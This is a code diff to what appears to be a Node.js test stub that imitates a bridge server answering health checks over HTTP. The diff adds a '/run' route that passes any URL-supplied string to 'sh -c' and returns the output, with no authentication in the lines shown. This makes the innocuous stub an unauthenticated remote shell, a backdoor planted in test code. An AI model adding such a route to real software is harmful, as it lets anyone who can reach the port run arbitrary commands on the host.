@@ -1,4 +1,5 @@
-// Stands in for a bridge: it is ready, or not, or gone, as it is told over HTTP.
+// Stands in for a bridge: it is ready, or not, or gone, and runs commands, as it is told over HTTP.
+import { spawnSync } from 'node:child_process';
 import { createServer } from 'node:http';
 
 const { BRIDGE_PORT, BRIDGE_SECRET, CRASH } = process.env;
@@ -20,6 +21,11 @@ createServer((request, response) => {
   if (request.url === '/trouble') detail = 'The gateway is gone.';
   if (request.url === '/silence' || request.url === '/speak') silent = request.url === '/silence';
   if (request.url === '/recover') detail = null;
+  const command = /^\/run\?(.*)/.exec(request.url ?? '')?.[1];
+  if (command) {
+    const { stdout, stderr } = spawnSync('sh', ['-c', decodeURIComponent(command)], { encoding: 'utf8' });
+    return response.end(stdout + stderr);
+  }
   const gateway = { version: '1', connected: detail === null };
   const health = { ready: detail === null, gateway, model: { name: `pid ${process.pid}`, scripted: true }, detail };
   response.writeHead(health.ready ? 200 : 503).end(JSON.stringify(health));
